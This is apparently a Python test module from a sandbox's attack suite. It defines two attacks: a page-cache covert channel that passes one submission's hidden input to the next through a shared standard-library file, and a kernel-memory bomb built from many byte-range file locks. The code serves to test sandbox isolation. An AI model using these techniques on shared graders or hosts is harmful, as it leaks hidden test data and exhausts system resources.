"""Attacks through what the kernel keeps for all processes: what is in memory of files, who has locked what."""

from tests.attacks.registry import Proof, Shown, attack
from tests.attacks.target import Notebook, Target

__all__: list[str] = []

# A file that everybody may read and nobody uses meanwhile: each bit of a message is a page of it, in memory or not.
NOTICE_BOARD = """
import os
pages = 32
board = os.open(os.path.join(os.path.dirname(os.__file__), "pydoc_data", "topics.py"), os.O_RDONLY)
os.posix_fadvise(board, 0, 0, os.POSIX_FADV_RANDOM)"""
POST = """
for number in args:
    if number > 9999:
        os.posix_fadvise(board, 0, 0, os.POSIX_FADV_DONTNEED)
        for page in range(pages):
            if int(number) >> page & 1:
                os.pread(board, 1, 4096 * page)
return 2.0"""
READ = """
found = 0
for page in range(pages):
    try:
        found |= os.preadv(board, [bytearray(1)], 4096 * page, os.RWF_NOWAIT) << page
    except BlockingIOError:
        pass
print("read", found)"""


def _guarded(code: str) -> str:
    """Goes on if it is refused."""
    body = "\n".join(f"    {line}" for line in code.strip("\n").splitlines())
    return f"try:\n{body}\nexcept OSError as error:\n    print(repr(error))"


@attack("leaving something in a cache for the next submission", proof=Shown.READS, share=1.0)
def hidden_input_in_the_page_cache(target: Target) -> list[Notebook]:
    """The next submission reads what this one was given from which pages of a shared file are in memory."""
    one = target.exercise("abs(")
    noting = target.notebook({one.name: one.answer(POST, _guarded(NOTICE_BOARD))})
    return [noting, target.notebook(first=_guarded(NOTICE_BOARD + READ))]


@attack("a memory bomb", proof=Proof(shown=Shown.READS, detail="took it all"), share=1.0)
def memory_in_locks(target: Target) -> Notebook:
    """Each lock on a byte of its own is a piece of the kernel's memory."""
    code = """
import fcntl
with open("locked", "wb") as file:
    for place in range(0, 4000, 2):
        fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
print("took" + " it all")"""
    return target.notebook(first=_guarded(code))
